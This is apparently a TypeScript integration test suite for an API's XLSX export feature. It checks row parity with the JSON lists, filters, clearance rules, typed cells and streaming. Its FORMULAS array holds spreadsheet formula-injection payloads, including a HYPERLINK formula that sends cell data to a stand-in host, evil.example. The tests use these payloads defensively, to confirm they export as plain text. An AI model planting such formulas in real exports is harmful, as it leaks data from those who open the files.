import ExcelJS from 'exceljs';
import { NotificationWorker } from '../src/notifications/delivery.worker';
import { factories } from './support/factories';
import { pdf } from './support/sample-files';
import { startTestApp, type TestApp } from './support/test-app';

type Json = Record<string, any>;

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?q="&A1,"Click")',
  '+1+1',
  '-2+3',
  '@SUM(1+9)',
  '\t=1+1',
  '\r=1+1',
];

const binary = (res: any, cb: (err: Error | null, body: Buffer) => void) => {
  const chunks: Buffer[] = [];
  res.on('data', (c: Buffer) => chunks.push(c));
  res.on('end', () => cb(null, Buffer.concat(chunks)));
};

/** The first sheet of an XLSX body: its header and its data rows as cell values. */
async function readSheet(body: Buffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0];
  const header = (sheet.getRow(1).values as unknown[]).slice(1).map(String);
  const rows: Json[] = [];
  const cells: ExcelJS.Cell[] = [];
  sheet.eachRow((row, n) => {
    if (n === 1) return;
    const item: Json = {};
    header.forEach((name, i) => {
      const cell = row.getCell(i + 1);
      cells.push(cell);
      item[name] = cell.value;
    });
    rows.push(item);
  });
  return { workbook, sheet, header, rows, cells };
}

describe('XLSX exports (spec §15): every list, same rows, filters and clearance as JSON, typed cells', () => {
  let t: TestApp;
  let doc: Json;
  let admin: string;
  let auditor: string;
  let restricted: string;
  const ids: Record<string, string> = {};
  let confidentialId: string;
  let confidentialMilestoneId: string;
  const lists: { id: string; path: string; op: Json }[] = [];

  const get = (path: string, query: Json, token: string, accept?: string) => {
    let call = t.http().get(path).query(query).set('Authorization', `Bearer ${token}`);
    if (accept) call = call.set('Accept', accept);
    return call.buffer(true).parse(binary);
  };
  const tokenFor = (path: string) => (/audit-events|history/.test(path) ? auditor : admin);

  /** Every JSON item of a list, page after page. */
  async function allJson(path: string, query: Json, token: string): Promise<Json[]> {
    const items: Json[] = [];
    let cursor: string | undefined;
    do {
      const res = await t
        .http()
        .get(path)
        .query({ ...query, limit: 200, ...(cursor ? { cursor } : {}) })
        .set('Authorization', `Bearer ${token}`);
      expect(res.status).toBe(200);
      items.push(...res.body.items);
      cursor = res.body.nextCursor ?? undefined;
    } while (cursor);
    return items;
  }

  async function xlsxOf(path: string, query: Json, token: string) {
    const res = await get(path, { ...query, format: 'xlsx' }, token);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe(XLSX);
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="[\w-]+\.xlsx"$/);
    return { res, ...(await readSheet(res.body as Buffer)) };
  }

  const resolve = (schema: Json | undefined): Json | undefined => {
    if (!schema) return undefined;
    if (schema.$ref) return resolve(doc.components.schemas[schema.$ref.split('/').pop()]);
    if (schema.allOf?.length === 1) return resolve(schema.allOf[0]);
    return schema;
  };

  beforeAll(async () => {
    t = await startTestApp();
    admin = await t.adminToken();
    auditor = await t.token('auditor', 'confidential');
    restricted = await t.token('viewer', 'restricted');
    const f = factories(t, admin);
    const fx = factories(t);

    const institution = await f.createInstitution({ name: 'Ministry of Energy of Azerbaijan' });
    ids.institutions = institution.id;
    const summit = await f.createSummit({ title: FORMULAS[0], startsOn: '2022-08-24', endsOn: '2022-08-25' });
    ids.summits = summit.id;
    const document = await f.createDocument({
      title: FORMULAS[0],
      referenceNumber: '0123',
      signedOn: '2022-08-24',
      summitId: summit.id,
      sectors: ['energy', 'transport'],
    });
    ids.documents = document.id;
    await f.addSignatory(document.id, { institutionId: institution.id });
    for (const title of FORMULAS.slice(1)) await f.createDocument({ title, classification: 'restricted' });
    confidentialId = (
      await f.createDocument({ title: 'Confidential protocol', classification: 'confidential' })
    ).id;
    const milestone = await fx.createMilestone(admin, {
      title: FORMULAS[0],
      documentId: document.id,
      dueOn: '2020-01-01',
      indicator: {
        name: 'Oil transit',
        unit: 'Mt',
        baseline: '-1.50',
        baselineOn: '2022-01-01',
        target: '2.25',
      },
    });
    ids.milestones = milestone.id;
    confidentialMilestoneId = (
      await fx.createMilestone(admin, { title: 'Hidden', documentId: confidentialId })
    ).id;
    const progress = await t
      .http()
      .post(`/api/v1/milestones/${milestone.id}/progress`)
      .set('Authorization', `Bearer ${admin}`)
      .send({ asOf: '2023-01-01', value: '0.75', note: FORMULAS[3] });
    expect(progress.status).toBe(201);
    const rule = await t
      .http()
      .post('/api/v1/deadline-rules')
      .set('Authorization', `Bearer ${admin}`)
      .send({ title: 'Ratify within 30 days', trigger: 'signed', offsetDays: 30, source: 'Law, Article 12' });
    expect(rule.status).toBe(201);
    ids['deadline-rules'] = rule.body.id;
    const attachment = await t
      .http()
      .post(`/api/v1/documents/${document.id}/attachments`)
      .set('Authorization', `Bearer ${admin}`)
      .field('kind', 'signed_original')
      .attach('file', pdf('Signed original'), 'original.pdf');
    expect(attachment.status).toBe(201);

    // A notification, a subscription and its delivery, for the §14 lists.
    const subscription = await t
      .http()
      .post('/api/v1/subscriptions')
      .set('Authorization', `Bearer ${admin}`)
      .send({ channel: 'inbox', events: ['milestone.transitioned'], filter: {} });
    expect(subscription.status).toBe(201);
    ids.subscriptions = subscription.body.id;
    const moved = await t
      .http()
      .post(`/api/v1/milestones/${milestone.id}/transitions`)
      .set('Authorization', `Bearer ${admin}`)
      .send({ to: 'in_progress' });
    expect(moved.status).toBe(200);
    await t.app.get(NotificationWorker).drain();

    doc = (await t.http().get('/api/docs-json')).body;
    for (const [path, item] of Object.entries<Json>(doc.paths)) {
      const op = item.get;
      const page = resolve(op?.responses?.['200']?.content?.['application/json']?.schema);
      if (!page?.properties?.items || !('nextCursor' in page.properties)) continue;
      // Search (§13) pages like a list but is a query over every register, not a register's list.
      if (op.operationId === 'search') continue;
      lists.push({ id: op.operationId, path, op });
    }
  });
  afterAll(() => t.close());

  /** A list's path with `{id}` filled by an entity of its collection. */
  const concrete = (path: string) =>
    path.replace(
      /^\/api\/v1\/([\w-]+)\/\{id\}/,
      (_, collection: string) => `/api/v1/${collection}/${ids[collection]}`,
    );

  it('finds the lists of the document, and every one documents format=xlsx and the XLSX media type', () => {
    expect(lists.length).toBeGreaterThanOrEqual(15);
    const missing = lists.filter(
      ({ op }) =>
        !op.responses['200'].content[XLSX] ||
        !op.parameters?.find((p: Json) => p.name === 'format')?.schema?.enum?.includes('xlsx'),
    );
    expect(missing.map((l) => l.id)).toEqual([]);
  });

  it('answers every list as a valid XLSX with the same rows, in the same order, as its JSON', async () => {
    for (const { id, path } of lists) {
      const url = concrete(path);
      const token = tokenFor(path);
      const json = await allJson(url, {}, token);
      const { rows, header, sheet } = await xlsxOf(url, {}, token);
      expect({ id, header: header.includes('id') }).toEqual({ id, header: true });
      expect({ id, ids: rows.map((r) => r.id) }).toEqual({ id, ids: json.map((i) => i.id) });
      expect({ id, some: json.length > 0 }).toEqual({ id, some: true });
      // A frozen, bold header row and widths that fit it.
      expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
      expect(sheet.getRow(1).font?.bold).toBe(true);
      const narrow = header.filter(
        (name, i) => (sheet.getColumn(i + 1).width ?? 0) < Math.min(name.length, 60),
      );
      expect({ id, narrow }).toEqual({ id, narrow: [] });
    }
  });

  it('applies the JSON filters and sort to the export', async () => {
    const cases: [string, Json][] = [
      ['/api/v1/documents', { classification: 'restricted', sort: '-title' }],
      ['/api/v1/documents', { q: 'protocol' }],
      ['/api/v1/milestones', { overdue: 'true' }],
      ['/api/v1/summits', { startsAfter: '2022-01-01', sort: 'startsOn' }],
      ['/api/v1/institutions', { country: 'AZ' }],
      ['/api/v1/audit-events', { entityType: 'document', action: 'create' }],
    ];
    for (const [path, query] of cases) {
      const token = tokenFor(path);
      const json = await allJson(path, query, token);
      const { rows } = await xlsxOf(path, query, token);
      expect({ path, query, ids: rows.map((r) => r.id) }).toEqual({
        path,
        query,
        ids: json.map((i) => i.id),
      });
    }
  });

  it('leaves out what a restricted reader may not see', async () => {
    const documents = await xlsxOf('/api/v1/documents', {}, restricted);
    const visible = await allJson('/api/v1/documents', {}, restricted);
    expect(documents.rows.map((r) => r.id)).toEqual(visible.map((i) => i.id));
    expect(documents.rows.map((r) => r.id)).not.toContain(confidentialId);
    expect(documents.rows).toHaveLength(FORMULAS.length);
    const milestones = await xlsxOf('/api/v1/milestones', {}, restricted);
    expect(milestones.rows.map((r) => r.id)).toContain(ids.milestones);
    expect(milestones.rows.map((r) => r.id)).not.toContain(confidentialMilestoneId);
    const hidden = await get(
      `/api/v1/documents/${confidentialId}/signatories`,
      { format: 'xlsx' },
      restricted,
    );
    expect(hidden.status).toBe(404);
    expect(hidden.headers['content-type']).toMatch(/application\/problem\+json/);
  });

  it('writes typed cells: dates, instants, decimals, integers, booleans; arrays joined; ids as text', async () => {
    const documents = await xlsxOf('/api/v1/documents', { q: 'HYPERLINK' }, admin);
    const row = documents.rows[0];
    expect(row.signedOn).toEqual(new Date('2022-08-24T00:00:00Z'));
    expect(row.createdAt).toBeInstanceOf(Date);
    const json = (await allJson('/api/v1/documents', { q: 'HYPERLINK' }, admin))[0];
    expect(row.version).toBe(json.version);
    expect(row.signatoryCount).toBe(1);
    expect(row.legallyBinding).toBe(false);
    expect(row.referenceNumber).toBe('0123');
    expect(row.countries).toBe('AZ; KZ');
    expect(row.sectors).toBe('energy; transport');
    expect(row.expiresOn).toBeNull();
    const dateColumn = documents.sheet.getColumn(documents.header.indexOf('signedOn') + 1);
    expect(documents.sheet.getRow(2).getCell(dateColumn.number).numFmt).toBe('yyyy-mm-dd');
    expect(documents.sheet.getRow(2).getCell(documents.header.indexOf('createdAt') + 1).numFmt).toBe(
      'yyyy-mm-dd hh:mm:ss',
    );

    const milestones = await xlsxOf('/api/v1/milestones', { q: 'HYPERLINK' }, admin);
    expect(milestones.rows[0]).toMatchObject({
      dueOn: new Date('2020-01-01T00:00:00Z'),
      overdue: true,
      indicatorBaseline: -1.5,
      indicatorTarget: 2.25,
      latestValue: 0.75,
      progressPercent: expect.any(Number),
    });
    const progress = await xlsxOf(`/api/v1/milestones/${ids.milestones}/progress`, {}, admin);
    expect(progress.rows[0]).toMatchObject({ asOf: new Date('2023-01-01T00:00:00Z'), value: 0.75 });
    const events = await xlsxOf(
      '/api/v1/audit-events',
      { entityType: 'document', action: 'create' },
      auditor,
    );
    expect(events.header).toEqual(expect.arrayContaining(['actorId', 'actorEmail', 'changes']));
    expect(events.rows[0].occurredAt).toBeInstanceOf(Date);
    expect(typeof events.rows[0].changes).toBe('string');
  });

  it('keeps a formula-looking title a plain string cell, exactly as typed, never a formula', async () => {
    for (const path of ['/api/v1/documents', '/api/v1/summits', '/api/v1/milestones']) {
      const { rows, cells } = await xlsxOf(path, {}, admin);
      expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula || c.formula)).toEqual([]);
      const titles = rows.map((r) => r.title);
      expect(titles).toContain(FORMULAS[0]);
    }
    const { rows, cells } = await xlsxOf('/api/v1/documents', {}, admin);
    // Exactly as typed, but for a CR: XML carries none in text (a reader sees a line feed).
    const typed = [...FORMULAS, 'Confidential protocol'].map((f) => f.replace(/\r/g, '\n'));
    expect(rows.map((r) => r.title).sort()).toEqual(typed.sort());
    for (const cell of cells.filter((c) => typeof c.value === 'string' && /^[=+\-@\t\r]/.test(c.value))) {
      expect(cell.type).toBe(ExcelJS.ValueType.String);
    }
  });

  it('answers Accept: XLSX without format, and a bad request as a 400 problem before any byte', async () => {
    const res = await get('/api/v1/summits', {}, admin, XLSX);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe(XLSX);
    expect(res.headers['content-disposition']).toBe('attachment; filename="summits.xlsx"');
    for (const collection of ['summits', 'documents', 'milestones', 'institutions', 'users']) {
      const bad = await t
        .http()
        .get(`/api/v1/${collection}`)
        .query({ format: 'xlsx', sort: 'nosuchfield' })
        .set('Authorization', `Bearer ${admin}`);
      expect({ collection, status: bad.status }).toEqual({ collection, status: 400 });
      expect(bad.body.errors[0].field).toBe('sort');
    }
    const unknown = await t
      .http()
      .get('/api/v1/documents')
      .query({ format: 'xls' })
      .set('Authorization', `Bearer ${admin}`);
    expect(unknown.status).toBe(400);
    expect(unknown.body.errors[0].field).toBe('format');
  });

  it('streams a large list page by page (chunked, no Content-Length) and keeps every row', async () => {
    await t.db.query(
      `INSERT INTO summits (created_by, updated_by, title, kind, host_country, location, countries, starts_on, ends_on)
       SELECT '00000000-0000-0000-0000-000000000000', '00000000-0000-0000-0000-000000000000',
              'Bulk summit ' || n, 'working_visit', 'AZ', 'Baku', '{AZ,KZ}', DATE '2020-01-01' + n, DATE '2020-01-01' + n
       FROM generate_series(1, 1500) AS n`,
    );
    const { res, rows } = await xlsxOf('/api/v1/summits', { sort: 'startsOn' }, admin);
    expect(res.headers['content-length']).toBeUndefined();
    expect(res.headers['transfer-encoding']).toBe('chunked');
    expect(rows).toHaveLength(1501);
    expect(rows.map((r) => (r.startsOn as Date).getTime())).toEqual(
      [...rows.map((r) => (r.startsOn as Date).getTime())].sort((a, b) => a - b),
    );
  });
});
